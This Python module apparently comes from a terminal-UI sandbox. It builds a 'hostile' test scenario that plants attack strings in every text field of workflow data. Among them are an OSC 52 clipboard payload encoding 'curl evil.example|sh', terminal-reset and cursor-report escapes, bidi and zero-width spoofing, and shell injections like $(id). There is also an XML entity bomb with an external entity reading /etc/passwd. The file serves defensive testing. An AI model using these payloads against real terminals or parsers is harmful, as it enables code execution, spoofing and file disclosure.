"""A cluster that attacks whoever looks at it: every text that it can send carries something for a terminal to obey."""

from __future__ import annotations

import json
from collections.abc import Callable, Mapping
from typing import Any

from c8tui.sandbox import wire
from c8tui.sandbox.store import Row

ATTACKS = (
    "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07",  # OSC 52: writes to the clipboard
    "\x1b[2J\x1b[H",  # clears the screen
    "\x9d52;c;ZXZpbA==\x9c",  # OSC as a C1 character
    "\x9b31m\x9b?1049l",  # CSI as a C1 character
    "\x1bP+q544e\x1b\\",  # DCS: asks the terminal, which answers on standard input
    "\u202egnp.exe\u202c\u2066x\u2069",  # bidirectional overrides
    "a\u200bd\u200dm\ufeffin\u2060",  # zero-width characters
    f"half {wire.lone(0xD83D)} pair {wire.lone(0xDC00)}",  # lone surrogates
    "[bold red]urgent[/] [/nope] [$error]",  # markup
    "[@click=app.quit]press me[/] [link=file:///etc/passwd]here[/link]",
    "one\ntwo\r\nthree\tfour\rover",  # lines and tabs
    "ding\a dong\b\b\b\b\x7f gone\x0c\x0b",  # bell, backspace, delete, form feed
    "\x1b]8;;https://evil.example\x1b\\safe.example\x1b]8;;\x1b\\",  # a link that lies
    "\x1b]0;owned\x07\x1b[?1003h\x1b[6n\x1bc",  # title, mouse reports, cursor report, full reset
    "e\u0301\u0301\u0301\u0301\u0301 \U0001f468\u200d\U0001f469\u200d\U0001f467 \u1160\uffa0",  # widths
    "%s%n {0} ${HOME} $(id) `id` ../../etc/passwd",  # other people's languages
)
"""What is put into texts, in turn."""
MEBIBYTE = 1 << 20
_EVERY_LONG = 211
"""One row in so many has a text of a mebibyte."""

_TEXTS: Mapping[str, tuple[str, ...]] = {
    "user_task": ("name", "assignee", "process_name", "external_form_reference", "business_id"),
    "process_instance": ("process_definition_name", "process_definition_version_tag", "business_id"),
    "process_definition": ("name", "version_tag", "resource_name"),
    "variable": ("name",),
    "job": ("type", "worker", "error_message", "error_code", "denied_reason", "business_id"),
    "incident": ("error_message",),
    "decision_definition": ("name", "decision_requirements_name"),
    "decision_requirements": ("decision_requirements_name", "resource_name"),
    "decision_instance": ("decision_definition_name", "evaluation_failure"),
    "audit_log": ("actor_id", "entity_description"),
}
_LISTS: Mapping[str, tuple[str, ...]] = {
    "user_task": ("candidate_groups", "candidate_users", "tags"),
    "process_instance": ("tags",),
}
_VALUES: Mapping[str, tuple[str, ...]] = {
    "user_task": ("custom_headers",),
    "job": ("custom_headers",),
    "variable": ("value",),
    "form": ("schema",),
    "decision_instance": ("result", "evaluated_inputs", "matched_rules"),
}
_LONG: Mapping[str, str] = {
    "user_task": "name",
    "job": "error_message",
    "variable": "value",
    "decision_instance": "evaluation_failure",
}
_WORKED_WITH = frozenset({"tier", "amount", "daysLate", "orderValue", "approved", "express"})
"""Variables that decisions and conditions are made from; they stay as they are."""
_KEPT_PROPERTIES = frozenset({"type", "id", "key", "inputId", "outputId", "ruleId", "schemaVersion"})
_OPERATORS = frozenset({"demo"})
"""People who keep their names, so that somebody has tasks of their own."""
_BOMB = (
    '<!DOCTYPE definitions [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY x SYSTEM "file:///etc/passwd">]>\n'
)


class Hostile:
    """The default story with its texts turned into weapons; as many things of every kind."""

    name = "hostile"
    tasks = 540

    def twist(self, table: str, row: Row) -> Row:
        """The row with an attack in every text, chosen by its key, so that the same row is always told alike."""
        if table == "variable" and row["name"] in _WORKED_WITH:
            return row
        number, told = row["key"], dict(row)
        for i, column in enumerate(_TEXTS.get(table, ())):
            if told.get(column) not in (None, "", *_OPERATORS):
                told[column] = _armed(told[column], number + i)
        for i, column in enumerate(_LISTS.get(table, ())):
            told[column] = wire.compact([*json.loads(told[column]), _armed("x", number + i)])
        for column in _VALUES.get(table, ()):
            told[column] = wire.compact(_poisoned(json.loads(told[column]), number))
        if "custom_headers" in told:
            told["custom_headers"] = wire.compact({_armed("header", number): _armed("value", number + 1)})
        if "xml" in told:
            told["xml"] = _WAYS_WITH_XML[number % len(_WAYS_WITH_XML)](told["xml"], number)
        if number % _EVERY_LONG == 0 and told.get(_LONG.get(table, "")):
            told[_LONG[table]] = _long(told[_LONG[table]], table)
        return told

    def text(self, text: str) -> str:
        """A text of no table, armed."""
        return _armed(text, len(text))


def _armed(text: str, number: int) -> str:
    return f"{text} {ATTACKS[number % len(ATTACKS)]}"


def _long(text: str, table: str) -> str:
    """A mebibyte of a text; of a variable's value, which is JSON, a mebibyte of JSON."""
    if table == "variable":
        return wire.compact("W" * MEBIBYTE)
    return (text + " ") * (MEBIBYTE // (len(text) + 1))


def _poisoned(value: Any, number: int) -> Any:
    """A JSON value with an attack in each of its strings, and in names where nothing depends on them."""
    if isinstance(value, str):
        return _armed(value, number)
    if isinstance(value, list):
        return [_poisoned(inner, number + i) for i, inner in enumerate(value)]
    if isinstance(value, dict):
        return {
            name: inner if name in _KEPT_PROPERTIES else _poisoned(inner, number + i)
            for i, (name, inner) in enumerate(value.items())
        }
    return value


def _ill_formed(xml: str, number: int) -> str:
    """Names with raw control characters, which no XML may have."""
    return xml.replace(' name="', f' name="{ATTACKS[1]}', 3)


def _well_formed(xml: str, number: int) -> str:
    """Names with what XML allows: C1, bidi, zero-width, markup."""
    return xml.replace(' name="', f' name="{ATTACKS[number % 2 + 5]}{ATTACKS[3]}[@click=app.quit]')


def _bomb(xml: str, number: int) -> str:
    """Entities that multiply, and one that reads a file."""
    head, end, rest = xml.partition("?>")
    return head + end + "\n" + _BOMB + rest.replace(' name="', ' name="&c;&x;', 1)


_WAYS_WITH_XML: tuple[Callable[[str, int], str], ...] = (_ill_formed, _well_formed, _bomb)
